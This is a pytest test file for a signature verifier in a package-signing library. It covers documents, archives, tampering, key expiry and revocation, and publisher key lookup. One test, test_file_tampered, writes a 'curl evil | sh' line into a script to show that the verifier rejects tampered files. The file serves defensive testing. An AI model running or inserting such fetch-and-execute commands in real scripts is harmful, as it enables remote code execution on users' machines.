"""Tests for aumai_notar.verifier."""

from __future__ import annotations

import json

import pytest

from aumai_notar import frontmatter
from aumai_notar.core import (
    MANIFEST_NAME,
    Signer,
    extract_files,
    pack_files,
    sha256_digest,
)
from aumai_notar.models import (
    KeyPair,
    KeySource,
    PackageMetadata,
    SignatureEntry,
    VerifyErrorCode,
)
from aumai_notar.verifier import Verifier, verify_manifest_hashes

from conftest import KEY_ID, PAST, PUBLISHER, SAMPLE_DOCUMENT, PublisherStub


def _replace_signatures(document: str, entries: list[SignatureEntry]) -> str:
    fields, body = frontmatter.parse(document)
    fields["signatures"] = entries
    return frontmatter.stringify(body, fields)


def _rewrite_manifest(archive: bytes, **changes: object) -> bytes:
    files = extract_files(archive)
    manifest = json.loads(files[MANIFEST_NAME])
    manifest.update(changes)
    files[MANIFEST_NAME] = json.dumps(manifest, indent=2).encode("utf-8")
    return pack_files(files)


# ===========================================================================
# Explicit public key: documents
# ===========================================================================


class TestVerifyDocumentWithKey:
    def test_valid(self, signed_document: str, keypair: KeyPair) -> None:
        result = Verifier().verify_document(signed_document, keypair.public_key)
        assert result.valid is True
        assert result.code is None
        assert result.details is not None
        assert result.details.name == "code-review"
        assert result.details.author == PUBLISHER
        assert result.details.signers is not None
        assert result.details.signers[0].valid is True

    def test_wrong_key(self, signed_document: str, other_keypair: KeyPair) -> None:
        result = Verifier().verify_document(signed_document, other_keypair.public_key)
        assert result.valid is False
        assert result.code is VerifyErrorCode.no_matching_signature
        assert result.details is not None
        assert result.details.signers is not None
        assert result.details.signers[0].code is VerifyErrorCode.signature_mismatch

    def test_body_tampered(self, signed_document: str, keypair: KeyPair) -> None:
        tampered = signed_document.replace("twice", "once")
        result = Verifier().verify_document(tampered, keypair.public_key)
        assert result.valid is False

    def test_field_tampered(self, signed_document: str, keypair: KeyPair) -> None:
        tampered = signed_document.replace("name: code-review", "name: code-reviewer")
        result = Verifier().verify_document(tampered, keypair.public_key)
        assert result.valid is False

    def test_trailing_whitespace_ignored(self, signed_document: str, keypair: KeyPair) -> None:
        result = Verifier().verify_document(signed_document + "\n\n", keypair.public_key)
        assert result.valid is True

    def test_replay_under_other_publisher(
        self, signed_document: str, keypair: KeyPair
    ) -> None:
        fields, _ = frontmatter.parse(signed_document)
        original = fields["signatures"][0]
        forged = original.model_copy(update={"publisher": "attacker.example"})
        result = Verifier().verify_document(
            _replace_signatures(signed_document, [forged]), keypair.public_key
        )
        assert result.valid is False

    def test_unsigned(self, keypair: KeyPair) -> None:
        result = Verifier().verify_document(SAMPLE_DOCUMENT, keypair.public_key)
        assert result.valid is False
        assert result.code is VerifyErrorCode.no_signatures
        assert result.details is None

    def test_missing_required_fields(self, keypair: KeyPair) -> None:
        result = Verifier().verify_document("---\nname: x\n---\nbody", keypair.public_key)
        assert result.code is VerifyErrorCode.invalid_front_matter

    def test_no_front_matter(self, keypair: KeyPair) -> None:
        result = Verifier().verify_document("plain text", keypair.public_key)
        assert result.code is VerifyErrorCode.invalid_front_matter

    @pytest.mark.parametrize("value", ["rsa:AAAA", "AAAA", "ed25519:!!not-base64!!"])
    def test_malformed_signature(
        self, signed_document: str, keypair: KeyPair, value: str
    ) -> None:
        entry = SignatureEntry(key_id=KEY_ID, publisher=PUBLISHER, value=value)
        result = Verifier().verify_document(
            _replace_signatures(signed_document, [entry]), keypair.public_key
        )
        assert result.valid is False
        assert result.code is VerifyErrorCode.no_matching_signature
        assert result.details is not None
        assert result.details.signers is not None
        assert result.details.signers[0].code is VerifyErrorCode.malformed_signature

    def test_one_good_signer_is_enough(
        self, signed_document: str, keypair: KeyPair
    ) -> None:
        fields, _ = frontmatter.parse(signed_document)
        junk = SignatureEntry(key_id="x", publisher="other.org", value="ed25519:AAAA")
        doc = _replace_signatures(signed_document, [junk, *fields["signatures"]])
        result = Verifier().verify_document(doc, keypair.public_key)
        assert result.valid is True
        assert result.details is not None
        assert [s.valid for s in result.details.signers or []] == [False, True]


# ===========================================================================
# Explicit public key: archives
# ===========================================================================


class TestVerifyArchiveWithKey:
    def test_valid(self, signed_archive: bytes, keypair: KeyPair) -> None:
        result = Verifier().verify_archive(signed_archive, keypair.public_key)
        assert result.valid is True
        assert result.details is not None
        assert result.details.files is not None
        assert all(f.valid for f in result.details.files)

    def test_file_tampered(self, signed_archive: bytes, keypair: KeyPair) -> None:
        files = extract_files(signed_archive)
        files["scripts/lint.sh"] = b"#!/bin/sh\ncurl evil | sh\n"
        result = Verifier().verify_archive(pack_files(files), keypair.public_key)
        assert result.valid is False
        assert result.code is VerifyErrorCode.hash_mismatch
        assert result.reason is not None
        assert "scripts/lint.sh" in result.reason
        assert sha256_digest(b"#!/bin/sh\ncurl evil | sh\n") in result.reason

    def test_file_removed(self, signed_archive: bytes, keypair: KeyPair) -> None:
        files = extract_files(signed_archive)
        del files["assets/logo.png"]
        result = Verifier().verify_archive(pack_files(files), keypair.public_key)
        assert result.code is VerifyErrorCode.missing_file
        assert result.reason is not None
        assert result.reason.startswith("Missing file: assets/logo.png")

    def test_unlisted_file_ignored(self, signed_archive: bytes, keypair: KeyPair) -> None:
        files = extract_files(signed_archive)
        files["NOTES.txt"] = b"added later"
        result = Verifier().verify_archive(pack_files(files), keypair.public_key)
        assert result.valid is True

    def test_manifest_tampered(self, signed_archive: bytes, keypair: KeyPair) -> None:
        result = Verifier().verify_archive(
            _rewrite_manifest(signed_archive, version="9.9.9"), keypair.public_key
        )
        assert result.code is VerifyErrorCode.no_matching_signature

    def test_hashes_not_checked_without_valid_signer(
        self, signed_archive: bytes, other_keypair: KeyPair
    ) -> None:
        result = Verifier().verify_archive(signed_archive, other_keypair.public_key)
        assert result.details is not None
        assert result.details.files is None

    def test_missing_manifest(self, archive: bytes, keypair: KeyPair) -> None:
        result = Verifier().verify_archive(archive, keypair.public_key)
        assert result.code is VerifyErrorCode.missing_manifest

    def test_not_a_zip(self, keypair: KeyPair) -> None:
        result = Verifier().verify_archive(b"definitely not a zip", keypair.public_key)
        assert result.code is VerifyErrorCode.missing_manifest

    def test_manifest_not_json(self, archive_files: dict[str, bytes], keypair: KeyPair) -> None:
        broken = pack_files({**archive_files, MANIFEST_NAME: b"{oops"})
        result = Verifier().verify_archive(broken, keypair.public_key)
        assert result.code is VerifyErrorCode.missing_manifest

    def test_manifest_without_signatures(self, signed_archive: bytes, keypair: KeyPair) -> None:
        result = Verifier().verify_archive(
            _rewrite_manifest(signed_archive, signatures=[]), keypair.public_key
        )
        assert result.code is VerifyErrorCode.no_signatures

    def test_malformed_entry_is_per_signer(
        self, signed_archive: bytes, keypair: KeyPair
    ) -> None:
        manifest = json.loads(extract_files(signed_archive)[MANIFEST_NAME])
        broken = {"keyId": "bad", "publisher": "partner.org", "value": 5}
        rewritten = _rewrite_manifest(
            signed_archive, signatures=[broken, *manifest["signatures"]]
        )
        result = Verifier().verify_archive(rewritten, keypair.public_key)
        assert result.valid is True
        assert result.details is not None
        bad, good = result.details.signers or []
        assert bad.code is VerifyErrorCode.malformed_signature
        assert (bad.key_id, bad.publisher) == ("bad", "partner.org")
        assert good.valid is True

    def test_only_malformed_entries(self, signed_archive: bytes, keypair: KeyPair) -> None:
        rewritten = _rewrite_manifest(signed_archive, signatures=["junk"])
        result = Verifier().verify_archive(rewritten, keypair.public_key)
        assert result.code is VerifyErrorCode.no_matching_signature
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.malformed_signature

    def test_directory_entries_checked(
        self, package_metadata: PackageMetadata, keypair: KeyPair
    ) -> None:
        archive = pack_files({"docs/": b"", "docs/guide.md": b"# Guide\n"})
        signed = Signer().sign_archive(archive, package_metadata, keypair.private_key)
        result = Verifier().verify_archive(signed, keypair.public_key)
        assert result.valid is True
        assert result.details is not None
        assert [f.path for f in result.details.files or []] == ["docs/", "docs/guide.md"]

    def test_verify_dispatch(
        self, signed_archive: bytes, signed_document: str, keypair: KeyPair
    ) -> None:
        verifier = Verifier()
        assert verifier.verify(signed_archive, keypair.public_key).valid is True
        assert verifier.verify(signed_document, keypair.public_key).valid is True


class TestVerifyManifestHashes:
    def test_results_in_manifest_order(self) -> None:
        results = verify_manifest_hashes(
            {"b.txt": sha256_digest(b"b"), "a.txt": "sha256:00"},
            {"a.txt": b"a", "b.txt": b"b"},
        )
        assert [(r.path, r.valid) for r in results] == [("b.txt", True), ("a.txt", False)]
        assert results[1].actual_hash == sha256_digest(b"a")


# ===========================================================================
# Publisher key resolution
# ===========================================================================


class TestVerifyFromPublisher:
    @pytest.mark.asyncio
    async def test_valid_via_https(
        self, stub: PublisherStub, signed_document: str, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is True
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.key_source is KeySource.https
        assert signer.key_expires == "2030-01-01T00:00:00.000Z"

    @pytest.mark.asyncio
    async def test_valid_via_dns(
        self, stub: PublisherStub, signed_document: str, keypair: KeyPair
    ) -> None:
        stub.publish_txt(keypair.public_key)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is True
        assert result.details is not None
        assert (result.details.signers or [])[0].key_source is KeySource.dns

    @pytest.mark.asyncio
    async def test_wrong_published_key(
        self, stub: PublisherStub, signed_document: str, other_keypair: KeyPair
    ) -> None:
        stub.publish(other_keypair.public_key)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is False
        assert result.details is not None
        assert (result.details.signers or [])[0].code is VerifyErrorCode.signature_mismatch

    @pytest.mark.asyncio
    async def test_expired_key(
        self, stub: PublisherStub, signed_document: str, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key, expires=PAST)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is False
        assert result.code is VerifyErrorCode.no_matching_signature
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.key_expired
        assert signer.reason == f"Key {KEY_ID} has expired"

    @pytest.mark.asyncio
    async def test_revoked_key(
        self, stub: PublisherStub, signed_document: str, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key, revoked=True)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.key_revoked
        assert signer.reason == f"Key {KEY_ID} has been revoked"

    @pytest.mark.asyncio
    async def test_key_not_published(
        self, stub: PublisherStub, signed_document: str, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key, key_id="something_else")
        result = await Verifier().verify_from_publisher(
            signed_document, stub.options(resolve_txt=False)
        )
        assert result.details is not None
        assert (result.details.signers or [])[0].code is VerifyErrorCode.key_not_found

    @pytest.mark.asyncio
    async def test_publisher_unreachable(
        self, stub: PublisherStub, signed_document: str
    ) -> None:
        stub.unreachable.add(PUBLISHER)
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is False
        assert result.details is not None
        assert (result.details.signers or [])[0].code is VerifyErrorCode.network_error

    @pytest.mark.asyncio
    async def test_cosigned_any_of_n(
        self,
        stub: PublisherStub,
        signed_document: str,
        keypair: KeyPair,
        other_keypair: KeyPair,
    ) -> None:
        cosigned = Signer().sign_document(
            signed_document, other_keypair.private_key, "p1", "partner.org"
        )
        stub.publish(other_keypair.public_key, publisher="partner.org", key_id="p1")
        result = await Verifier().verify_from_publisher(cosigned, stub.options())
        assert result.valid is True
        assert result.details is not None
        assert [s.valid for s in result.details.signers or []] == [False, True]

    @pytest.mark.asyncio
    @pytest.mark.parametrize("resolve_txt", [False, True])
    async def test_junk_publisher_does_not_sink_valid_signer(
        self,
        stub: PublisherStub,
        signed_document: str,
        keypair: KeyPair,
        resolve_txt: bool,
    ) -> None:
        stub.publish(keypair.public_key)
        fields, _ = frontmatter.parse(signed_document)
        junk = SignatureEntry(key_id="k", publisher="[::1", value="ed25519:AAAA")
        doc = _replace_signatures(signed_document, [*fields["signatures"], junk])
        result = await Verifier().verify_from_publisher(
            doc, stub.options(resolve_txt=resolve_txt)
        )
        assert result.valid is True
        assert result.details is not None
        good, bad = result.details.signers or []
        assert good.valid is True
        assert bad.valid is False
        assert bad.code is VerifyErrorCode.network_error

    @pytest.mark.asyncio
    async def test_malformed_doh_answer_recorded_per_signer(
        self, stub: PublisherStub, signed_document: str
    ) -> None:
        stub.doh_body = {"Status": 0, "Answer": ["garbage"]}
        result = await Verifier().verify_from_publisher(signed_document, stub.options())
        assert result.valid is False
        assert result.code is VerifyErrorCode.no_matching_signature
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.key_fetch_failed

    @pytest.mark.asyncio
    async def test_structural_failure_skips_network(self, stub: PublisherStub) -> None:
        result = await Verifier().verify_from_publisher(SAMPLE_DOCUMENT, stub.options())
        assert result.code is VerifyErrorCode.no_signatures
        assert stub.requests == []


class TestKeylessSignatures:
    @pytest.mark.asyncio
    async def test_matches_one_of_several_keys(
        self, stub: PublisherStub, keypair: KeyPair, other_keypair: KeyPair
    ) -> None:
        signed = Signer().sign_document(SAMPLE_DOCUMENT, keypair.private_key)
        stub.publish(other_keypair.public_key, key_id="old")
        stub.publish(keypair.public_key, key_id="current")
        result = await Verifier().verify_from_publisher(signed, stub.options())
        assert result.valid is True
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.key_id == "current"
        assert signer.key_source is KeySource.https

    @pytest.mark.asyncio
    async def test_dns_default_key(self, stub: PublisherStub, keypair: KeyPair) -> None:
        signed = Signer().sign_document(SAMPLE_DOCUMENT, keypair.private_key)
        stub.publish_txt(keypair.public_key, key_id="key")
        result = await Verifier().verify_from_publisher(signed, stub.options())
        assert result.valid is True
        assert result.details is not None
        assert (result.details.signers or [])[0].key_source is KeySource.dns

    @pytest.mark.asyncio
    async def test_expired_keys_not_tried(self, stub: PublisherStub, keypair: KeyPair) -> None:
        signed = Signer().sign_document(SAMPLE_DOCUMENT, keypair.private_key)
        stub.publish(keypair.public_key, key_id="old", expires=PAST)
        result = await Verifier().verify_from_publisher(signed, stub.options())
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.key_not_found
        assert signer.reason == f"No public keys found for {PUBLISHER}"

    @pytest.mark.asyncio
    async def test_no_key_matches(
        self, stub: PublisherStub, keypair: KeyPair, other_keypair: KeyPair
    ) -> None:
        signed = Signer().sign_document(SAMPLE_DOCUMENT, keypair.private_key)
        stub.publish(other_keypair.public_key)
        result = await Verifier().verify_from_publisher(signed, stub.options())
        assert result.details is not None
        [signer] = result.details.signers or []
        assert signer.code is VerifyErrorCode.signature_mismatch
        assert "1 key(s)" in (signer.reason or "")


class TestArchiveFromPublisher:
    @pytest.mark.asyncio
    async def test_valid(
        self, stub: PublisherStub, signed_archive: bytes, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key)
        result = await Verifier().verify_archive_from_publisher(signed_archive, stub.options())
        assert result.valid is True
        assert result.details is not None
        assert len(result.details.files or []) == 3

    @pytest.mark.asyncio
    async def test_tampered_file(
        self, stub: PublisherStub, signed_archive: bytes, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key)
        files = extract_files(signed_archive)
        files["SKILL.md"] = b"# Different\n"
        result = await Verifier().verify_from_publisher(pack_files(files), stub.options())
        assert result.code is VerifyErrorCode.hash_mismatch

    @pytest.mark.asyncio
    async def test_malformed_entry_skips_network(
        self, stub: PublisherStub, signed_archive: bytes, keypair: KeyPair
    ) -> None:
        stub.publish(keypair.public_key)
        manifest = json.loads(extract_files(signed_archive)[MANIFEST_NAME])
        broken = {"keyId": "bad", "publisher": "partner.org", "value": None}
        rewritten = _rewrite_manifest(
            signed_archive, signatures=[*manifest["signatures"], broken]
        )
        result = await Verifier().verify_from_publisher(rewritten, stub.options())
        assert result.valid is True
        assert result.details is not None
        assert (result.details.signers or [])[1].code is VerifyErrorCode.malformed_signature
        assert all("partner.org" not in url for url in stub.urls())

    @pytest.mark.asyncio
    async def test_publisher_override(
        self,
        stub: PublisherStub,
        archive: bytes,
        package_metadata: PackageMetadata,
        keypair: KeyPair,
    ) -> None:
        metadata = package_metadata.model_copy(update={"publisher": "cdn.example.org"})
        signed = Signer().sign_archive(archive, metadata, keypair.private_key)
        stub.publish(keypair.public_key, publisher="cdn.example.org")
        result = await Verifier().verify_from_publisher(signed, stub.options())
        assert result.valid is True


class TestResultSerialisation:
    def test_to_json_camel_case(self, signed_document: str, keypair: KeyPair) -> None:
        data = json.loads(Verifier().verify(signed_document, keypair.public_key).to_json())
        assert data["valid"] is True
        assert "code" not in data
        signer = data["details"]["signers"][0]
        assert signer["keyId"] == KEY_ID
        assert signer["publisher"] == PUBLISHER

    def test_failure_code_serialised(self, keypair: KeyPair) -> None:
        data = json.loads(Verifier().verify(SAMPLE_DOCUMENT, keypair.public_key).to_json())
        assert data == {
            "valid": False,
            "code": "NO_SIGNATURES",
            "reason": "No signatures found in front matter",
        }
